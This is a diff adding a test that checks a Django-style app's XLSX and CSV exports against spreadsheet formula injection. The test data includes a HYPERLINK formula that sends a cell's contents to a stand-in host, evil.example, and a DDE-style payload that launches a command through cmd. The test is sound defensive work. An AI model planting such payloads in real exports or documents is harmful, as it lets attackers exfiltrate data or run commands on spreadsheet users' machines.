@@ -141,3 +141,42 @@ def test_csv_figures_import_records_who_and_keeps_history(admin_client, plans):
     assert figure.entered_by == admin
     assert str(figure.value) == "1100.500000"
     assert figure.revisions.count() == 1
+
+
+def test_exports_never_hold_a_live_formula(client, plans):
+    import csv
+    from datetime import date
+
+    note = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
+    target = plans.targets.get(code="CT06")
+    target.source_text = "@SUM(A1:A9)"
+    target.save()
+    ReportedFigure.objects.create(
+        target=target,
+        period="T06",
+        value=Decimal("-5"),
+        reported_on=date(2022, 6, 30),
+        source="+84 225 3821 000",
+        source_url="＝cmd|' /c calc'!A1",
+        note=note,
+    )
+    base = f"/chi-tieu/{plans.unit_slug}/2022/xuat/"
+
+    book = load_workbook(io.BytesIO(client.get(base + "ke-hoach.xlsx").content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    figures = book["Số liệu"]
+    (row,) = [r for r in figures.iter_rows(values_only=True) if r[7] == note]
+    assert row[2] == -5 and row[5] == "+84 225 3821 000"
+    assert row[6] == "＝cmd|' /c calc'!A1"
+    targets = {r[0]: r for r in book["Chỉ tiêu"].iter_rows(values_only=True)}
+    assert targets["CT06"][11] == "@SUM(A1:A9)"
+
+    text = client.get(base + "so-lieu.csv").content.decode("utf-8-sig")
+    (row,) = [r for r in csv.reader(io.StringIO(text)) if r[7].endswith(note)]
+    assert row[7] == "'" + note
+    assert row[5] == "'+84 225 3821 000" and row[6] == "'＝cmd|' /c calc'!A1"
+    assert row[2] == "-5"  # a number, not text to escape
+    text = client.get(base + "chi-tieu.csv").content.decode("utf-8-sig")
+    (row,) = [r for r in csv.reader(io.StringIO(text)) if r[0] == "CT06"]
+    assert row[11] == "'@SUM(A1:A9)"
